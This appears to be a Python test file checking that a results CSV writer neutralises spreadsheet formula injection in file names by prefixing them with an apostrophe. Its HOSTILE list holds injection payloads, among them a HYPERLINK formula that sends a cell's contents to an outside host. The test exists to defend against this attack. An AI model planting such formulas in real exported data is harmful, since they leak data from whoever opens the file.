"""A file's name is text to a spreadsheet, whatever it begins with."""

from __future__ import annotations

import csv
import io

import msgspec
import pytest
import test_records as records
from glass_edge.runtime.results.records import ErrorInfo
from glass_edge.runtime.results.writers import CsvWriter

from glass_edge import Failure, Verdict

HOSTILE = [
    "=HYPERLINK(\"http://example.org/?\"&A2,\"open\").jpg",
    "+1+1.jpg",
    "-2+3.jpg",
    "@SUM(A1).jpg",
    "\t=1+1.jpg",
    "\r=1+1.jpg",
    "\n=1+1.jpg",
    "'=1+1.jpg",
]  # fmt: skip
FORMULAS = tuple("=+-@\t\r\n")
VERDICT = msgspec.structs.replace(records.VERDICT, logits={"fake": -1.0, "real": -2.5})


def written(record: Verdict | Failure) -> str:
    lines: list[bytes] = []  # a list is a sink: it takes lines with append
    CsvWriter(lines, ("fake", "real")).write(record)
    return b"".join(lines).decode()


def row(record: Verdict | Failure) -> dict[str, str]:
    (found,) = csv.DictReader(io.StringIO(written(record), newline=""))
    return found


@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_of_text_is_a_formula(name):
    verdict = msgspec.structs.replace(VERDICT, path=name, bundle=f"{name}@0123456789ab")
    failure = Failure(path=name, error=ErrorInfo("ImageError", name))
    for cells in (row(verdict), row(failure)):
        text = {column: cells[column] for column in ("path", "bundle", "error_message")}
        assert not any(cell.startswith(FORMULAS) for cell in text.values())
        assert cells["path"] == f"'{name}"  # so that one ' can always be taken off
    assert row(failure)["error_message"] == f"'{name}"


@pytest.mark.parametrize("name", ["a.jpg", "images/=1+1.jpg", "it's.jpg", "/photos/-1.jpg"])
def test_other_names_stay_as_they_are(name):
    assert row(msgspec.structs.replace(VERDICT, path=name))["path"] == name


def test_numbers_stay_numbers():
    cells = row(VERDICT)
    assert (cells["logit_fake"], cells["logit_real"]) == ("-1.0", "-2.5")
    assert "-1.0,-2.5" in written(VERDICT)  # not quoted


def test_a_semicolon_ends_no_cell():
    """Spreadsheets of many countries separate with it, and would go on with a formula."""
    name = "a;=1+1.jpg"
    assert f'"{name}",' in written(msgspec.structs.replace(VERDICT, path=name))
